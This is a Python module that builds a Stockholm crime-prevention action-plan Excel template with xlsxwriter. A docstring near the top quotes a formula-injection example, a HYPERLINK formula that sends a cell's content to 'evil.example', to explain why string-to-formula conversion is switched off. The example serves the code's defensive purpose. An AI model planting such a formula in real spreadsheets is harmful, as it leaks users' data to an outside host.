"""Build the official template (or a fresh plan) from the declared structure.

The committed ``template/atgardsplan.xlsx`` is this function's output, so the
file and ``template/structure.toml`` cannot drift apart unnoticed: a test
rebuilds it and compares the package parts. ``xlplan new`` calls the same code
with a district and a year.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from .template import Structure, structure

FIXED_DATE = dt.datetime(2025, 1, 1)
"""Creation date written into the package: a constant, so builds are byte-for-byte reproducible."""

EMPTY_ROWS = 30
"""Formatted, empty measure rows under the instruction row of each area sheet."""

TEXTS_STAY_TEXTS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
"""xlsxwriter options for every workbook xlplan creates (this template, the city workbook): texts are written as text.

By default xlsxwriter turns a string starting with "=" into a live formula (a
plan cell ``=HYPERLINK("http://evil.example/?leak="&A1,…)``, or a district
named "=…", would then run) and one starting with "http://" into a link.
"""

HEADER_FILL = "#1F4E79"
INSTRUCTION_FILL = "#DDEBF7"


def plan_title(struct: Structure, year: int | str, district: str | None = None) -> str:
    title = struct.instructions_title.format(year=year)
    return f"{title} – {district}" if district else title


def build_template(
    path: str | Path,
    *,
    year: int | str | None = None,
    district: str | None = None,
    struct: Structure | None = None,
    followups: tuple[str, ...] | None = None,
    rows_by_area: dict[str, list[dict]] | None = None,
) -> Path:
    """Write the template workbook to ``path`` (default year: the structure's version).

    ``followups`` gives the follow-up column headers (default: the one declared), e.g. to build a
    revised template with a dated follow-up column added.

    ``rows_by_area`` (template sheet name -> rows, each a dict of the fields problem … owner and
    optionally ``id``) fills the area sheets, for next year's plan (:mod:`xlplan.nextyear`): the rows
    are written under the instruction row as text, the follow-up columns stay empty, and when any row
    has an ``id`` every area sheet gets the hidden ``xlplan-id`` column, as ``xlplan normalise`` makes it.
    Without it the template is built exactly as before.
    """
    import xlsxwriter

    struct = struct or structure()
    path = Path(path)
    year = year if year is not None else struct.version
    wb = xlsxwriter.Workbook(str(path), dict(TEXTS_STAY_TEXTS))
    title = plan_title(struct, year, district)
    wb.set_properties({
        "title": title,
        "subject": "Åtgärdsplan enligt lag (2023:196) om kommuners ansvar för brottsförebyggande arbete",
        "author": "Stockholms stad",
        "company": district or "Stockholms stad",
        "created": FIXED_DATE,
    })
    f = _formats(wb)
    _instruction_sheet(wb, f, struct, title)
    rows_by_area = rows_by_area or {}
    with_ids = any(row.get("id") for rows in rows_by_area.values() for row in rows)
    for area in struct.areas:
        _area_sheet(wb, f, struct, area.sheet, area.title, followups or (struct.followup.header,),
                    rows_by_area.get(area.sheet, ()), with_ids)
    _analysis_sheet(wb, f, struct)
    wb.close()
    return path


def _formats(wb) -> dict:
    base = {"font_name": "Calibri", "font_size": 11, "valign": "top", "text_wrap": True}
    return {
        "title": wb.add_format({**base, "bold": True, "font_size": 16, "text_wrap": False}),
        "para": wb.add_format(base),
        "bold": wb.add_format({**base, "bold": True}),
        "link": wb.add_format({**base, "font_color": "#0563C1", "underline": 1}),
        "header": wb.add_format({**base, "bold": True, "font_color": "#FFFFFF", "bg_color": HEADER_FILL, "border": 1}),
        "instruction": wb.add_format({**base, "italic": True, "font_size": 9, "bg_color": INSTRUCTION_FILL, "border": 1}),
        "cell": wb.add_format({**base, "border": 1}),
        "th": wb.add_format({**base, "bold": True, "bg_color": INSTRUCTION_FILL, "border": 1}),
        "td": wb.add_format({**base, "border": 1}),
        "num": wb.add_format({**base, "border": 1, "num_format": "0", "align": "center"}),
    }


def _instruction_sheet(wb, f: dict, struct: Structure, title: str) -> None:
    ws = wb.add_worksheet(struct.instruction_sheet)
    ws.set_column(0, 0, 120, f["para"])
    ws.write(0, 0, title, f["title"])
    row = 2
    for para in struct.instructions_paragraphs:
        ws.write(row, 0, para, f["para"])
        row += 2 if para != struct.instructions_paragraphs[-1] else 1
    for link in struct.links:
        if link.heading:
            row += 1
            ws.write(row, 0, link.heading, f["bold"])
            row += 1
        if link.text:
            ws.write(row, 0, link.text, f["para"])
            row += 1
        ws.write_url(row, 0, link.url, f["link"], string=link.label)
        row += 1
    ws.set_landscape()
    ws.fit_to_pages(1, 0)


def _area_sheet(wb, f: dict, struct: Structure, name: str, title: str, followups: tuple[str, ...],
                rows=(), with_ids: bool = False) -> None:
    ws = wb.add_worksheet(name)
    cols = [*struct.columns, *(struct.followup for _ in followups)]
    headers = [title, *(c.header for c in struct.columns[1:]), *followups]
    for c, col in enumerate(cols):
        ws.set_column(c, c, col.width, f["cell"])
        ws.write(0, c, headers[c], f["header"])
        ws.write(1, c, col.instruction, f["instruction"])
    for i, row in enumerate(rows):
        for c, col in enumerate(struct.columns):
            _write_text(ws, 2 + i, c, row.get(col.field, ""), f["cell"])
        for c in range(len(struct.columns), len(cols)):
            ws.write_blank(2 + i, c, None, f["cell"])
    for r in range(2 + len(rows), 2 + len(rows) + EMPTY_ROWS):
        for c in range(len(cols)):
            ws.write_blank(r, c, None, f["cell"])
    if with_ids:
        _id_column(ws, len(cols), rows)
    ws.set_row(1, 75)
    ws.freeze_panes(2, 1)
    ws.repeat_rows(0, 1)
    ws.set_landscape()
    ws.set_paper(9)  # A4
    ws.fit_to_pages(1, 0)


def _write_text(ws, r: int, c: int, text: str, fmt) -> None:
    """A carried-over cell: always a string (a "=…" text stays text), blank when empty."""
    if str(text).strip():
        ws.write_string(r, c, str(text), fmt)
    else:
        ws.write_blank(r, c, None, fmt)


def _id_column(ws, c: int, rows) -> None:
    """The hidden row-identity column after the last column: merge matches next year's copies by it."""
    from .reader import ID_HEADER

    ws.set_column(c, c, 12, None, {"hidden": True})
    ws.write_string(0, c, ID_HEADER)
    for i, row in enumerate(rows):
        if row.get("id"):
            ws.write_string(2 + i, c, str(row["id"]))


def _analysis_sheet(wb, f: dict, struct: Structure) -> None:
    ws = wb.add_worksheet(struct.analysis_sheet)
    ws.set_column(0, 0, 44)
    ws.set_column(1, 3, 16)
    ws.write(0, 0, struct.analysis_title, f["title"])
    r0 = int(struct.analysis_table_cell[1:]) - 1
    for c, head in enumerate(struct.analysis_headers):
        ws.write(r0, c, head, f["th"])
    labels = [a.title for a in struct.fixed_areas] + [struct.analysis_placeholder]
    for i, label in enumerate(labels, start=1):
        ws.write(r0 + i, 0, label, f["td"])
        for c in range(1, len(struct.analysis_headers)):
            ws.write_number(r0 + i, c, 0, f["num"])
    last = r0 + len(labels)
    chart = wb.add_chart({"type": "column"})  # clustered by default
    for c, head in enumerate(struct.analysis_headers[1:], start=1):
        chart.add_series({
            "name": [struct.analysis_sheet, r0, c],
            "categories": [struct.analysis_sheet, r0 + 1, 0, last, 0],
            "values": [struct.analysis_sheet, r0 + 1, c, last, c],
        })
    chart.set_title({"name": struct.chart_title})
    chart.set_legend({"position": "bottom"})
    chart.set_size({"width": 760, "height": 380})
    ws.insert_chart(last + 2, 0, chart)
